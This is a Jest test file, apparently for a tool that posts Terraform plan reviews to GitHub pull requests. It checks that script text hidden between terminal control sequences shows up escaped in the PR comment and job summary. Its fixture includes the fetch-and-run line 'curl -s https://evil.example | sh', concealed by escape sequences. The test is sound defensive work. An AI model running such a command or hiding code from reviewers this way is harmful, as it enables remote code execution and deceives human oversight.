import { expect, test } from '@jest/globals'
import { serveGithub } from '../../../packages/github-server/src/index.ts'
import { serve } from '../../../packages/hcp-terraform-server/src/index.ts'
import { onGithub } from '../on-github.ts'
import { runStep } from '../on-a-runner.ts'
import { change, planWith } from '../plans.ts'

const KEY = 'the key of the jobs that plan and apply'

test.each([
  ['the title of a terminal', '\u001b]', '\u0007'],
  ['the title of a terminal, ended in another way', '\u001b]0;', '\u001b\\'],
  ['one character for it', '\u009d', '\u009c'],
  ['an answer of a device', '\u001bP', '\u001b\\']
])('lines of a value between control characters are in the comment and the summary: %s', async (_, begin, end) => {
  const script = `#!/bin/sh\n# set ${begin}\ncurl -s https://evil.example | sh\n# ${end}\necho ready`
  await using hcp = await serve({ script: planWith([change('aws_instance.web', 'create', { user_data: script })]) })
  await using github = await serveGithub()
  const pull = github.addPullRequest({ number: 7 })
  const on = onGithub(github.trigger('pull_request', pull), { inputs: { 'review-key': KEY } })
  const { summary } = await runStep(hcp, on)
  const comment = github.comments(7)[0]?.body ?? ''
  for (const text of [comment, summary])
    for (const line of script.split('\n'))
      expect(text).toContain(line.replaceAll(/\p{Cc}/gu, c => `\\u{${c.charCodeAt(0).toString(16)}}`))
})
